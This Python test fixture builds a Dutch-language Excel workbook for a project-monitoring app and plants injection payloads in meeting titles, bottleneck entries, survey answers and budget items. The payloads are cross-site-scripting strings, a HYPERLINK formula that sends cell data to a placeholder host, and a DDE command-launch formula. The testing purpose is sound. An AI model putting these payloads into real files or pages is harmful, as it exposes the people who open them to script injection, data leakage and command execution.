"""A delivery full of HTML, script, Markdown and spreadsheet-formula payloads in every free-text field (for tests)."""

from __future__ import annotations

import datetime as dt
from pathlib import Path


def write_workbook(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
    """Like tests.conftest.write_workbook, but text is always text: "=HYPERLINK(...)" is typed, not a formula."""
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_numbers": False,
                                         "strings_to_urls": False})
    date_fmt = wb.add_format({"num_format": "dd-mm-yyyy"})
    for name, rows in sheets.items():
        ws = wb.add_worksheet(name)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if isinstance(value, dt.date):
                    ws.write_datetime(r, c, dt.datetime(value.year, value.month, value.day), date_fmt)
                elif value is not None:
                    ws.write(r, c, value)
    wb.close()
    return path

DEAL = "CDI"
SCRIPT = "<script>window.__pwned=1</script>"
IMG = '<img src=x onerror="window.__pwned=1">'
BOLD_HTML = "<b>vet</b>"
LINK_MD = "[klik](javascript:alert(1))"
BOLD_MD = "**vet**"
HTML_PAYLOADS = (SCRIPT, IMG, BOLD_HTML, LINK_MD, BOLD_MD)
HYPERLINK = '=HYPERLINK("http://voorbeeld.invalid/?x="&A1,"klik")'
FORMULAS = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")


def write_injection_delivery(path: Path) -> Path:
    """One workbook: payloads in meeting titles, bottlenecks (Knelpunt and Actie), a survey text answer, a post."""
    payloads = HTML_PAYLOADS + FORMULAS
    meetings = [["ID", "Datum", "Soort", "Titel", "Onderdeel", "Status"]]
    meetings += [[f"M{i}", dt.date(2022, 1 + i, 12), "kernteam", p, "OT1", "gehouden"] for i, p in enumerate(payloads[:9])]
    bottlenecks = [["Datum", "Onderdeel", "Knelpunt", "Ernst", "Status", "Actie"]]
    bottlenecks += [[dt.date(2022, 3, 1 + i), "OT1", p, "hoog", "open", payloads[-1 - i]] for i, p in enumerate(payloads)]
    answers = [["Respondent", "Meting", "Vraag", "Antwoord", "Organisatiesoort"]]
    for r in range(6):
        answers.append([f"R{r}", "2022-05", "V01", "eens", "gemeente"])
        answers.append([f"R{r}", "2022-05", "V02", payloads[r] if r < 5 else FORMULAS[0], "gemeente"])
    return write_workbook(path, {
        "Deal": [["Code", "Naam", "Start", "Einde", "Peildatum"],
                 [DEAL, "City Deal Injectie (test)", dt.date(2022, 1, 1), dt.date(2023, 12, 31), dt.date(2022, 10, 31)]],
        "Onderdelen": [["Code", "Naam", "Soort"], ["OT1", "Ontwikkelteam 1", "ontwikkelteam"]],
        "Bijeenkomsten": meetings,
        "Knelpunten": bottlenecks,
        "Vragen": [["Code", "Vraag", "Schaal", "Thema"], ["V01", "Ik ben tevreden", "likert5", HYPERLINK],
                   ["V02", "Wat kan beter?", "tekst", "Samenwerking"]],
        "Enquete": answers,
        "Begroting": [["Jaar", "Kostensoort", "Post", "Begroot", "Gerealiseerd"],
                      [2022, "ontwikkeling", HYPERLINK, 1000, 1500], [2022, "basis", "@SUM(A1:A9)", 500, 200]],
    })
